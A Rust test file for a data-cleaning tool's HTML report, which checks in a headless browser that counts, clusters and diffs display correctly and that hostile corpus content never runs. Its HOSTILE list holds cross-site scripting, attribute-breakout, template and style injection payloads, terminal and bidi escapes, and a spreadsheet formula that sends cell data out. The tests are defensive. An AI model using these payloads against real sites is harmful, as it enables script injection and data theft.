//! The report's page in a browser: what a person clicks and reads, and that nothing of a corpus acts in it.

#![allow(clippy::unwrap_used, reason = "a test that cannot go on has failed")]
#![allow(clippy::print_stderr, reason = "a test that is skipped says so")]

#[path = "support/browser.rs"]
mod browser;
mod support;

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::path::Path;

use browser::Browser;
use serde_json::{Value, json};
use support::{Folder, record, story};

/// A real run, on 14,315 news articles: counts, clusters, differences, lines, sources and the run, by day, night and phone.
#[test]
fn a_person_reads_the_page_of_a_real_run() {
    let articles = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/data/articles/news-en.jsonl.zst");
    if !articles.exists() {
        eprintln!("skipped: {} is not there", articles.display());
        return;
    }
    let Some(mut browser) = Browser::start() else { return };
    let folder = Folder::new();
    folder.copy(&articles, "news.jsonl.zst");
    folder.run(&["clean", "news.jsonl.zst", "-o", "out.jsonl"]).ends_with(0);
    let report = Report { folder: &folder, name: "out.jsonl.report" };
    let page = folder.path("out.jsonl.report/index.html");
    browser.open(&page);

    report.has_its_counts(&mut browser);
    report.has_its_clusters(&mut browser);
    report.shows_what_differs(&mut browser);
    report.has_its_lines_and_sources(&mut browser);
    assert!(browser.text("[data-testid=command]").contains("clean news.jsonl.zst -o out.jsonl"));
    fits_a_phone_and_the_night(&mut browser, &page);
    acts_alone(&mut browser);
}

struct Report<'a> {
    folder: &'a Folder,
    name: &'a str,
}

impl Report<'_> {
    fn counted(&self, name: &str) -> String {
        let digits = self.folder.count(self.name, name).to_string();
        let thousands: Vec<&str> =
            digits.as_bytes().rchunks(3).rev().map(|part| std::str::from_utf8(part).unwrap()).collect();
        thousands.join(",")
    }

    fn has_its_counts(&self, browser: &mut Browser) {
        let head = browser.text("h1");
        assert_eq!(head, format!("{} of {} documents kept", self.counted("kept"), self.counted("read")));
        browser.click("#flow .fallback > summary");
        let table = browser.text("[data-testid=flow-table]");
        for name in ["read", "kept", "removed", "set_aside"] {
            assert!(
                table.contains(&format!("{}\t{}", name.replace('_', " "), self.counted(name))),
                "{name} in {table}"
            );
        }
    }

    fn has_its_clusters(&self, browser: &mut Browser) {
        let rows = self.folder.rows(&format!("{}/duplicates.jsonl", self.name));
        let survivors: BTreeSet<&str> = rows.iter().map(|row| row["survivor"].as_str().unwrap()).collect();
        assert_eq!(browser.text("[data-testid=cluster-count]"), format!("{} clusters", survivors.len()));
        browser.choose("[data-testid=cluster-kind]", "1");
        let near: BTreeSet<&str> = rows
            .iter()
            .filter(|row| row["kind"] == "near")
            .map(|row| row["survivor"].as_str().unwrap())
            .collect();
        assert_eq!(browser.count("[data-testid=cluster]"), near.len() as u64);
        browser.choose("[data-testid=cluster-kind]", "");
    }

    /// Finds a near-duplicate by its id, opens it, reads its scores, unfolds what both have, and reads what differs.
    fn shows_what_differs(&self, browser: &mut Browser) {
        let rows = self.folder.rows(&format!("{}/duplicates.jsonl", self.name));
        let row =
            rows.iter().find(|row| row["kind"] == "near" && row["jaccard"].as_f64() < Some(0.99)).unwrap();
        browser.write("[data-testid=cluster-search]", row["id"].as_str().unwrap());
        browser.wait_for("document.querySelectorAll('[data-testid=cluster]').length === 1");
        assert!(browser.text("[data-testid=cluster]").contains(row["survivor"].as_str().unwrap()));
        browser.click("[data-testid=cluster] > summary");
        browser.wait_for("document.querySelector('.member')");
        let scores = browser.text(".member .scores");
        let jaccard = format!("{:.4}", (row["jaccard"].as_f64().unwrap() * 1e4).floor() / 1e4);
        assert!(scores.starts_with(&jaccard[..5]), "{scores}");
        assert!(scores.contains("of it inside its survivor") && scores.contains("of its survivor inside it"));
        assert!(browser.count(".diff del") + browser.count(".diff ins") > 0, "{}", browser.text(".diff"));
        browser.click(".diff .fold > summary");
        assert!(browser.text(".diff .fold > .passage").len() > 40);
        let removed = self.text_of(row["id"].as_str().unwrap());
        let shown = browser.text(".diff .fold > .passage");
        assert!(removed.contains(shown.split('…').next().unwrap().lines().next().unwrap().trim()));
        browser.write("[data-testid=cluster-search]", "no such word anywhere");
        browser.wait_for("document.querySelectorAll('[data-testid=cluster]').length === 0");
        browser.write("[data-testid=cluster-search]", "");
        browser.wait_for("document.querySelectorAll('[data-testid=cluster]').length > 1");
    }

    fn text_of(&self, id: &str) -> String {
        let receipts = self.folder.receipts(self.name);
        let receipt = receipts.iter().find(|receipt| receipt["id"] == id).unwrap();
        let record: Value = serde_json::from_str(receipt["raw"].as_str().unwrap()).unwrap();
        record["text"].as_str().unwrap().to_owned()
    }

    fn has_its_lines_and_sources(&self, browser: &mut Browser) {
        let lines = self.folder.rows(&format!("{}/lines.jsonl", self.name));
        assert!(browser.text("[data-testid=lines]").contains(lines[0]["text"].as_str().unwrap()));
        browser.write("[data-testid=line-search]", "newsletter/form-en");
        browser.wait_for(
            "document.querySelector('[data-testid=line]').innerText.includes('newsletter/form-en')",
        );
        let sources = self.folder.rows(&format!("{}/sources.jsonl", self.name));
        let site = sources[0]["source"].as_str().unwrap();
        browser.write("[data-testid=source-search]", site);
        browser.wait_for(&format!(
            "document.querySelector('[data-testid=source] th').innerText === {}",
            json!(site)
        ));
        let before = browser.count("[data-testid=line]");
        browser.write("[data-testid=line-search]", "");
        browser.wait_for("!document.querySelector('#line-more').hidden");
        browser.click("#line-more");
        assert!(browser.count("[data-testid=line]") > before);
    }
}

fn fits_a_phone_and_the_night(browser: &mut Browser, page: &Path) {
    let paper = "getComputedStyle(document.body).backgroundColor";
    let day = browser.evaluate(paper);
    let night = json!({ "features": [{ "name": "prefers-color-scheme", "value": "dark" }] });
    browser.command("Emulation.setEmulatedMedia", &night);
    assert_ne!(browser.evaluate(paper), day);
    let phone = json!({ "width": 360, "height": 740, "deviceScaleFactor": 2, "mobile": true });
    browser.command("Emulation.setDeviceMetricsOverride", &phone);
    browser.open(page);
    browser.click("[data-testid=cluster] > summary");
    browser.wait_for("document.querySelector('.diff')");
    assert_eq!(browser.evaluate("document.documentElement.scrollWidth"), json!(360));
}

/// Nothing was asked of any network, nothing was forbidden, nothing failed.
#[track_caller]
fn acts_alone(browser: &mut Browser) {
    // An answer to something else, so that what was told before is here.
    browser.evaluate("1");
    for request in browser.told("Network.requestWillBeSent") {
        let url = request["request"]["url"].as_str().unwrap();
        assert!(url.starts_with("file://") && url.ends_with("index.html"), "{url}");
    }
    let faults: Vec<&Value> =
        ["Log.entryAdded", "Runtime.exceptionThrown"].iter().flat_map(|kind| browser.told(kind)).collect();
    assert!(faults.is_empty(), "{faults:?}");
}

/// What a hostile page would like to be more than text, each with a sign of what it did.
const HOSTILE: [(&str, &str); 14] = [
    ("a script", "<script>window.owned = 1</script>"),
    ("the end of the data block", "</script><script>window.owned = 2</script>"),
    ("a comment that opens a script", "<!--<script>window.owned = 3"),
    ("an event handler", "<img src=x onerror=\"window.owned = 4\">"),
    ("an event handler of svg", "<svg onload=window.owned=5><rect/></svg>"),
    ("the end of an attribute", "\" autofocus onfocus=\"window.owned = 6\" x=\""),
    ("the end of an attribute in single quotes", "' onmouseover='window.owned = 7"),
    ("an address that is a script", "javascript:window.owned=8"),
    ("a frame", "<iframe src=\"https://example.com/\"></iframe><base href=\"https://example.com/\">"),
    ("a template", "{{ 7 * 7 }}{% raw %}${window.owned = 9}"),
    ("a style", "</style><style>body { display: none }</style>"),
    ("the end of a string", "\\\"};window.owned=10;//\u{2028}\u{2029}"),
    (
        "a terminal escape and a direction override",
        "\u{1b}[2J\u{9b}31m \u{202e}txt.exe\u{202c} \u{2066}x\u{2069} in\u{200b}visible",
    ),
    ("a spreadsheet formula", "=HYPERLINK(\"https://example.com/?\"&A1;\"click\")"),
];

/// Signs of a page in which nothing got through: whether anything is owned, scripts, styles, and what acts.
const NO_SIGN: [u64; 4] = [0, 2, 1, 0];

/// The same of the page that is open.
fn signs_of_life(browser: &mut Browser) -> [u64; 4] {
    let acting = "img, iframe, base, object, embed, link, form, \
                  [onload], [onerror], [onfocus], [onmouseover], [href^='javascript:']";
    let is_owned = browser.evaluate("typeof window.owned !== 'undefined'") == json!(true);
    [u64::from(is_owned), browser.count("script"), browser.count("style"), browser.count(acting)]
}

/// The negative control: in a page that lets markup through, the same look notices each kind. A comment that opens a script shows in
/// another way: it swallows what comes behind it, so that the page never draws itself; the end of a string needs a writer of its own to fail.
#[test]
fn what_gets_through_would_be_noticed() {
    let Some(mut browser) = Browser::start() else { return };
    let folder = Folder::new();
    let mut look = |at_place: &str, evil: &str| {
        let page = "<!DOCTYPE html><style></style><body data-ready=1>BODY<script>const data = `TEMPLATE`;</script>\
                    <script type=\"application/json\">\"DATA\"</script><a title=\"QUOTED\" href=\"ADDRESS\">x</a><b title='SINGLE'>x</b>";
        let mut page = page.replace(at_place, evil);
        for place in ["BODY", "TEMPLATE", "DATA", "QUOTED", "ADDRESS", "SINGLE"] {
            page = page.replace(place, "");
        }
        folder.write("page.html", page);
        browser.open(&folder.path("page.html"));
        signs_of_life(&mut browser)
    };
    assert_eq!(look("BODY", "a &lt;script&gt;"), NO_SIGN);
    for (kind, place) in [
        ("a script", "BODY"),
        ("the end of the data block", "DATA"),
        ("an event handler", "BODY"),
        ("an event handler of svg", "BODY"),
        ("the end of an attribute", "QUOTED"),
        ("the end of an attribute in single quotes", "SINGLE"),
        ("an address that is a script", "ADDRESS"),
        ("a template", "TEMPLATE"),
        ("a style", "BODY"),
    ] {
        let (_, evil) = HOSTILE.iter().find(|(known, _)| *known == kind).unwrap();
        assert_ne!(look(place, evil), NO_SIGN, "{kind}");
    }
}

/// Whatever stands in texts, ids, sites, file names, lines and problems: nothing of it runs, and all of it can be read.
#[test]
fn nothing_of_the_corpus_acts_in_the_page() {
    let Some(mut browser) = Browser::start() else { return };
    for (kind, evil) in HOSTILE {
        let folder = Folder::new();
        let file = format!("in/{}.jsonl", evil.replace('/', "∕"));
        folder.write(&file, hostile_corpus(evil));
        folder
            .run(&["clean", "in", "-o", "out", "--site-field", "site", "--no-normalize", "all"])
            .ends_with(3);
        browser.open(&folder.path("out.report/index.html"));
        browser.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })");
        browser.wait_for("document.querySelector('.member .diff .row')");
        assert_eq!(signs_of_life(&mut browser), NO_SIGN, "{kind}");
        all_can_be_read(&mut browser, kind, evil);
        acts_alone(&mut browser);
    }
}

/// Copies, a line that recurs, and a record that cannot be read, with something evil in every part of them.
fn hostile_corpus(evil: &str) -> String {
    let mut lines = String::new();
    for number in 0..12 {
        let own = format!(
            "{}\n\n{evil} and {number}, {}\n\nSign up {evil} today\n",
            story(number),
            story(50 + number)
        );
        let line = |id: &str, text: &str| {
            format!(
                "{}\n",
                json!({ "id": format!("{id}{number} {evil}"), "site": format!("site {evil}"), "text": text })
            )
        };
        lines.push_str(&line("first", &own));
        if number < 3 {
            lines.push_str(&line("copy", &own.replacen(' ', &format!(" unheard {evil} "), 1)));
        }
    }
    let _ = writeln!(lines, "{}", json!({ "id": "aside", "title": evil }));
    let _ = writeln!(lines, "no json at all: {}", evil.replace(['\n', '\u{2028}', '\u{2029}'], " "));
    lines
}

#[track_caller]
fn all_can_be_read(browser: &mut Browser, kind: &str, evil: &str) {
    let hidden =
        |c: char| c.is_control() || "\u{2028}\u{2029}\u{202c}\u{202e}\u{2066}\u{2069}\u{200b}".contains(c);
    let shown: String = evil
        .chars()
        .map(|c| if hidden(c) { format!("\\u{{{:x}}}", c as u32) } else { c.to_string() })
        .collect();
    let parts = [
        "[data-testid=clusters] .id",
        "[data-testid=sources]",
        "[data-testid=top-sources]",
        "[data-testid=problems]",
        ".member .diff",
        ".files",
    ];
    for part in parts {
        let text = browser.text(part);
        let wanted = if part == ".files" { shown.replace('/', "∕") } else { shown.clone() };
        assert!(text.contains(&wanted), "{kind}, {part}: no {wanted:?} in {text:?}");
        assert!(!text.contains(|c| hidden(c) && !"\n\t".contains(c)), "{kind}, {part}: {text:?}");
    }
}

/// Samples keep the page small, even where every character of what they hold is written as six.
#[test]
fn the_page_stays_small_whatever_was_removed() {
    let folder = Folder::new();
    let mut corpus = String::new();
    for number in 0..300 {
        let page: Vec<String> = (0..4).map(|part| story(4 * number + part).replace(' ', " <<&>> ")).collect();
        let page = page.join("\n");
        corpus.push_str(&record(&format!("{number}{}", "<".repeat(2_000)), &page));
        let words = page.split(' ').enumerate().map(|(at, word)| if at % 120 == 7 { "one" } else { word });
        corpus.push_str(&record(&format!("copy of {number}"), &words.collect::<Vec<_>>().join(" ")));
    }
    folder.write("in.jsonl", corpus);
    folder.run(&["clean", "in.jsonl", "-o", "out.jsonl"]).ends_with(0);
    assert!(folder.count("out.jsonl.report", "removed") > 250);
    let rows = folder.text("out.jsonl.report/duplicates.jsonl");
    // As if there had been many times as many, each of a cluster of its own.
    let many: String =
        (0..100).map(|time| rows.replace("\"record\":", &format!("\"record\":{}", time + 1))).collect();
    folder.write("out.jsonl.report/duplicates.jsonl", rows + &many);
    folder.run(&["report", "out.jsonl.report", "--html", "page.html"]).ends_with(0);
    let page = folder.read("page.html");
    assert!(page.len() < 20_000_000, "{} bytes", page.len());
    assert!(page.len() > 1_000_000, "{} bytes", page.len());
    let Some(mut browser) = Browser::start() else { return };
    let took = browser.open(&folder.path("page.html"));
    eprintln!("{} bytes, opened in {took:?}", page.len());
    assert!(browser.text("#cluster-note").contains("drawn at random"));
}
